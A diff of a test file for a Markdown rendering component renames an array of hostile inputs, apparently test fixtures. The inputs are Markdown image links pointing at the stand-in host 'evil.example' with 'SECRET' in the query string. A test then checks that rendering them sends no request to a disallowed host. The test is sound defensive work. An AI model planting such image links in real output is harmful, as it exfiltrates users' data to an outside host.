@@ -3,7 +3,7 @@ import { createDocument, renderAtOnce, renderInPieces } from '../testing/markdow
 import '../../define-all.ts';
 
 const evil = 'https://evil.example/?q=SECRET';
-const leaks = [
+const resourceTexts = [
   `![x](${evil})`,
   `![x][r]\n\n[r]: ${evil}`,
   `![${evil}](${evil} "${evil}")`,
@@ -49,7 +49,7 @@ describe('hostile Markdown', () => {
   it('D01: sends no request to a host that is not allowed', async () => {
     const before = performance.getEntriesByType('resource').length;
     const element = mount(document.createElement('inlay-markdown'));
-    element.text = leaks.join('\n\n');
+    element.text = resourceTexts.join('\n\n');
     await element.updateComplete;
 
     const root = element.shadowRoot;
